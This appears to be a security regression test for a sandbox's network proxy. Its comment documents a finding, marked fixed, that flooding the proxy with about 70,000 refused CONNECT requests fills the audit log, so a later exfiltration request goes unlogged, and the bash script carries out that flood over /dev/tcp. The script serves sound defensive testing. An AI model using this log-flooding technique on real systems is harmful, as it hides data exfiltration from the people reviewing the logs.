#!/usr/bin/env bash
# shellcheck disable=SC2016 # sandbox scripts expand inside
# FINDING (medium; fixed on branch atk18): the audit log holds 16 MiB and
# then only counts attempts; refusals cost the client nothing (no lookup, no
# connection), so ~70000 refused CONNECTs fill it, and every allowed
# connection after that (the exfiltration) has no line of its own in
# `ags net-log`, only the "not_logged" count at the end.
. "$(dirname "$0")/lib.sh"
atk_setup
atk_loopback_server
atk_config "[network]
mode = \"allowlist\"
allow = [\"localhost:$P\", \"127.0.0.1:$P\"]"
# About 240 bytes a line: 80000 refusals are more than the 16 MiB.
out=$(atk_net_run -- '
hp=${HTTP_PROXY#http://}
for i in $(seq 80000); do
    exec 3<>"/dev/tcp/${hp%:*}/${hp##*:}" || continue
    printf "CONNECT flood-%s.invalid:443 HTTP/1.1\r\n\r\n" "$i" >&3
    cat <&3 >/dev/null
    exec 3<&-
done
ask CONNECT "exfil.localhost:$1" "$2" >/dev/null
ask GET "http://localhost:$1/nonce?exfil-marker"' "$P" 2>&1 | tail -n 5) && rc=0 || rc=$?
echo "$out"; echo "exit $rc"
log=$(atk_ags net-log --json 2>&1)
echo "log lines: $(grep -c . <<<"$log")"
grep -q 'not_logged' <<<"$log" || atk_die "the flood did not fill the log (no not_logged line)"
grep -q '"host":"localhost"' <<<"$log" || works "the allowed request after the flood has no log line"
held "the allowed request after the flood is logged"
